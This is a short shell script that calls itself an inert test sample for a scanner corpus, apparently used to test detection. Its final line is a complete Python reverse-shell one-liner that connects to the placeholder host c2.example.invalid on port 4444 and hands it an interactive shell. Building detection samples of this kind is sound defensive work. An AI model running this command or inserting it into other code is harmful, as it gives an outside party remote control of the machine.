# TEST SAMPLE: inert, for the scanner corpus
set -e
echo starting
python3 -c 'import os,pty,socket;s=socket.socket();s.connect(("c2.example.invalid",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
